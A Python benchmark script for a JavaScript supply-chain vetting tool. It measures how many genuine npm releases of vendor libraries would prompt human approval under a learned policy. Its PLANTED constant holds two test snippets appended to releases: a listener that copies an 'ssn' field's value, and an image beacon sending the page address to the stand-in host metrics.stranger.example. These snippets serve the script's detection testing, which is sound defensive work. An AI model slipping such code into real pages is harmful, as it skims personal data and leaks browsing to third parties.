"""Approval load: how many new releases of real vendors' libraries would ask a person something.

`python bench/approval_load.py [NAME…] [--releases N] [--cache FOLDER] [--runs FOLDER]
[--at-once N] [--write]`. Each release of `releases.toml` runs in Chromium as `scriptward vet` runs
it. A policy is learned from the first, with the approval of its bytes; each later one then stands
for a day on the site, and `policy cost` says which of them ask. Behind the newest release of some
stands one more with a planted read of a field, and one that sends to somebody new; all of them
have to ask.

Packages are fetched by npm, compared with the integrity in `releases.toml` and kept in a cache
outside of the repository. `--write` puts the table into docs/approval-load.md. Leaves with 1 over
the budget, with 2 where a package can't be had.
"""

import argparse
import base64
import hashlib
import os
import subprocess
import sys
import tarfile
import tempfile
import tomllib
from collections import defaultdict
from collections.abc import Iterable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec

ROOT = Path(__file__).parents[1]
sys.path.insert(0, str(ROOT))  # npm is run as set-up runs it

from scriptward.analysis.comparing import StoredRun, compared  # noqa: E402
from scriptward.analysis.comparing_continued import NO_NEWS  # noqa: E402
from scriptward.app import run_folder, vetting  # noqa: E402
from scriptward.app.config import settings  # noqa: E402
from scriptward.lib.digests import sha256_hex  # noqa: E402
from scriptward.policy.addresses import script_pattern  # noqa: E402
from scriptward.policy.cost import cost  # noqa: E402
from scriptward.policy.language.policy import (  # noqa: E402
    Agreement,
    Policy,
    RecipientRule,
    ScriptRule,
)
from scriptward.policy.language.words import Stance  # noqa: E402
from scriptward.policy.learn import learned  # noqa: E402
from scriptward.sources.scan import chromium  # noqa: E402
from scriptward.sources.vet.journey import HOST  # noqa: E402
from scriptward.vocabulary.words import Baa  # noqa: E402

LIBRARIES = Path(__file__).parent / "releases.toml"
MOST_ASKING = 0.02
"""Part of the new hashes."""
PAGE = ROOT / "docs" / "approval-load.md"
BEGIN = "<!-- measured: python bench/approval_load.py --write -->\n"
END = "<!-- end of what was measured -->\n"
AT_ONCE = 2
"""Browsers."""
WITHIN = 300.0
FIRST = datetime(2026, 1, 1, tzinfo=UTC)
PLANTED = {
    "a new read": ";addEventListener('change',(event)=>{if(event.target.id==='ssn')"
    "window.kept=event.target.value;},true);",
    "a new recipient": ";addEventListener('load',()=>{new Image().src="
    "'https://metrics.stranger.example/p?at='+encodeURIComponent(location.href);});",
}
"""`{what it does: code}`, put behind a release."""
PLANTED_IN = frozenset({"mixpanel", "hls", "fingerprint"})
"""Those that don't read every field anyway."""


@dataclass(frozen=True, kw_only=True)
class Library:
    """A vendor's library and its releases, oldest first."""

    name: str
    package: str
    kind: str
    file: str
    before: str
    after: str
    versions: Mapping[str, str]
    """`{version: integrity}`"""

    def text(self, version: str, cache: Path) -> bytes:
        """What a page loads: the published file, and how the page starts it."""
        published = _published(self, version, cache)
        return b"\n".join([self.before.encode(), published, b";" + self.after.encode()])


@dataclass(frozen=True, kw_only=True)
class Release:
    """One text that is vetted."""

    name: str
    """Its version, or what was planted."""
    version: str
    code: bytes


@dataclass(frozen=True, kw_only=True)
class Row:
    """What a library's releases asked."""

    library: Library
    asking: Mapping[str, tuple[str, ...]]
    """`{version: what is asked}` of those that ask."""
    news: Mapping[str, tuple[str, ...]]
    """`{version: what it does that the one before did not}` of the same."""
    releases: int
    hashes: int
    planted: Mapping[str, tuple[str, ...]]
    sends: int
    failures: tuple[str, ...]


def main() -> None:
    """Print the table; leave with 1 over the budget."""
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("names", nargs="*", metavar="NAME")
    options.add_argument("--releases", type=int, default=10)
    options.add_argument("--cache", type=Path, default=Path.home() / ".cache/scriptward-releases")
    options.add_argument("--runs", type=Path, help="keep the runs there, and use those kept")
    options.add_argument("--at-once", type=int, default=AT_ONCE, help="so many browsers")
    options.add_argument("--write", action="store_true", help="put the table into the docs")
    given = options.parse_args()
    every = libraries()
    chosen = [every[name] for name in given.names or every]
    rows = [measured(one, given.releases, given.cache, given.runs, given.at_once) for one in chosen]
    _print(rows)
    hashes, asking = sum(row.hashes for row in rows), sum(len(row.asking) for row in rows)
    print(_total(hashes, asking, len(rows)))
    if given.write:
        before, _, rest = PAGE.read_text("utf-8").partition(BEGIN)
        table = "".join(f"{line}\n" for line in _table(rows, hashes, asking))
        PAGE.write_text(before + BEGIN + table + END + rest.partition(END)[2], "utf-8")
    unasked = [row.library.name for row in rows if not all(row.planted.values())]
    if asking > hashes * MOST_ASKING or unasked:
        sys.exit(1)


def libraries() -> dict[str, Library]:
    """Every library of `releases.toml`, by name."""
    told = tomllib.loads(LIBRARIES.read_text("utf-8"))
    return {
        name: Library(
            name=name,
            package=one["package"],
            kind=one["kind"],
            file=one["file"],
            before=one.get("before", ""),
            after=one.get("after", ""),
            versions=one["versions"],
        )
        for name, one in told.items()
    }


def measured(
    library: Library, releases: int, cache: Path, runs: Path | None = None, at_once: int = AT_ONCE
) -> Row:
    """What the newest releases of a library, and the planted ones, ask."""
    versions = list(library.versions)[-releases:]
    real = [Release(name=one, version=one, code=library.text(one, cache)) for one in versions]
    last = real[-1]
    wanted = PLANTED if library.name in PLANTED_IN else {}
    bad = [
        replace(last, name=name, code=last.code + code.encode()) for name, code in wanted.items()
    ]
    with ThreadPoolExecutor(at_once) as pool:
        stored = list(pool.map(lambda one: vetted(library, one, runs), (*real, *bad)))
    seen, planted = stored[: len(real)], stored[len(real) :]
    policy = approved(library, real[0], seen[0])
    hashes = [sha256_hex(one.code) for one in real]
    asks = asked_by_day(policy, seen)
    asking = {one.name: asks[day(at)] for at, one in enumerate(real) if day(at) in asks}
    return Row(
        library=library,
        asking=asking,
        news={
            one.name: tuple(_news(seen[at - 1], seen[at]))
            for at, one in enumerate(real)
            if one.name in asking
        },
        releases=len(real),
        hashes=len(set(hashes) - {hashes[0]}),
        planted={
            one.name: asked_by_day(policy, [*seen, run]).get(day(len(seen)), ())
            for one, run in zip(bad, planted, strict=True)
        },
        sends=sum(len(visit.third_party) for visit in seen[-1].visits),
        failures=tuple(text for run in stored for text in run.run.failures),
    )


def approved(library: Library, release: Release, run: StoredRun) -> Policy:
    """The policy learned from a first release, its bytes approved.

    The library's own hosts are known, with an agreement on all data: so no refusal hides news.
    """
    owner = RecipientRule(
        name=library.name,
        hosts=(f"*.{library.name}.test",),
        baa=Baa.ATTESTED,
        agreement=Agreement(signed=FIRST.date()),
    )
    base = Policy(site=HOST, defaults=(("*", Stance.FORBID),), recipients=(owner,))
    policy = learned(run.visits, today=FIRST.date(), base=base).policy
    match, digest = script_pattern(address(library, release)), sha256_hex(release.code)
    return replace(policy, scripts=tuple(_pinned(one, match, digest) for one in policy.scripts))


def _pinned(script: ScriptRule, match: str, digest: str) -> ScriptRule:
    if script.match != match or script.approved is None:
        return script
    return replace(script, approved=replace(script.approved, sha256=digest))


def address(library: Library, release: Release) -> str:
    """Where pages have it from: as on a vendor's own host, with the version in the path."""
    return f"https://cdn.{library.name}.test/{release.version}/{Path(library.file).name}"


def vetted(library: Library, release: Release, runs: Path | None) -> StoredRun:
    """The run of one release on the prepared pages. `runs`: where it is kept."""
    folder = _folder(library, release, runs)
    if not (folder / "report.json").exists():
        folder.mkdir(parents=True, exist_ok=True)
        file = folder / "release.js"
        file.write_bytes(release.code)
        config = settings()
        vetting.vetted(
            str(file),
            address=address(library, release),
            personas=("default",),
            within=WITHIN,
            out=folder,
            browser=str(chromium.find(config.browser, set_up=config.browser_folder)),
            browser_args=["--no-sandbox"] if os.geteuid() == 0 else [],
        )
    return StoredRun(run=run_folder.read_report(folder).run, visits=run_folder.read_visits(folder))


def asked_by_day(policy: Policy, runs: Iterable[StoredRun]) -> dict[str, tuple[str, ...]]:
    """`{time: what is asked}` where each run is of the next day."""
    dated = [
        replace(run, run=msgspec.structs.replace(run.run, finished_at=day(at)))
        for at, run in enumerate(runs)
    ]
    found: dict[str, list[str]] = defaultdict(list)
    for one in cost(policy, dated).decisions:
        found[one.by].append(f"{one.why.value}: {one.says}")
    return {when: tuple(asks) for when, asks in found.items()}


def day(number: int) -> str:
    """When the run of a release ended."""
    return (FIRST + timedelta(days=number)).isoformat()


def _folder(library: Library, release: Release, runs: Path | None) -> Path:
    name = f"{library.name}-{sha256_hex(release.code)[:16]}"
    return (runs or Path(tempfile.mkdtemp(prefix="scriptward-approval-"))) / name


def _published(library: Library, version: str, cache: Path) -> bytes:
    """The library's file in a package, fetched where the cache lacks it. Exits with 2."""
    package = f"{library.package.lstrip('@').replace('/', '-')}-{version}.tgz"
    path = cache / package
    if not path.exists():
        cache.mkdir(parents=True, exist_ok=True)
        words = ("pack", f"{library.package}@{version}", "--pack-destination", str(cache))
        subprocess.run(
            [sys.executable, "-m", "tools.npm", *words], cwd=ROOT, capture_output=True, check=False
        )
    if not path.exists():
        print(f"npm has no {library.package} {version} for us; check its settings", file=sys.stderr)
        sys.exit(2)
    digest = base64.b64encode(hashlib.sha512(path.read_bytes()).digest()).decode()
    if f"sha512-{digest}" != library.versions[version]:
        print(f"{path} isn't what releases.toml says; remove it and run again", file=sys.stderr)
        sys.exit(2)
    with tarfile.open(path) as packed:
        for member in packed:
            if member.isfile() and member.name.partition("/")[2] == library.file:
                inside = packed.extractfile(member)
                return inside.read() if inside else b""
    print(f"{path} has no {library.file}", file=sys.stderr)
    sys.exit(2)


def _news(old: StoredRun, new: StoredRun) -> Iterator[str]:
    for change in compared(old, new).changes:
        if change.what not in NO_NEWS:
            yield change.says


def _total(hashes: int, asking: int, libraries: int) -> str:
    share = f"{asking / max(1, hashes):.1%}"
    return f"{libraries} libraries, {hashes} new hashes: {asking} ask ({share})"


def _table(rows: Sequence[Row], hashes: int, asking: int) -> Iterator[str]:
    yield "| library | kind | releases | new hashes | ask | what for | planted releases that ask |"
    yield "|---|---|---|---|---|---|---|"
    for row in rows:
        versions = list(row.library.versions)[-row.releases :]
        news = "; ".join(f"{name} {', '.join(says)}" for name, says in row.news.items())
        planted = f"{sum(map(bool, row.planted.values()))} of {len(row.planted)}"
        yield (
            f"| {row.library.package} | {row.library.kind} | {versions[0]} to {versions[-1]}"
            f" | {row.hashes} | {len(row.asking)} | {news} | {planted if row.planted else ''} |"
        )
    yield ""
    yield f"{_total(hashes, asking, len(rows))}."


def _print(rows: Iterable[Row]) -> None:
    for row in rows:
        planted = ", ".join(
            f"{name} {'asks' if asks else 'DOES NOT ASK'}" for name, asks in row.planted.items()
        )
        print(
            f"{row.library.name:14} {row.library.kind:23} {row.hashes:3} new hashes,"
            f" {len(row.asking):2} ask; {row.sends:3} flows in the last; {planted}"
        )
        for version, asks in row.asking.items():
            for ask in asks:
                print(f"    {version}: {ask}")
        for failure in dict.fromkeys(row.failures):
            print(f"    failed: {failure}")


if __name__ == "__main__":
    main()
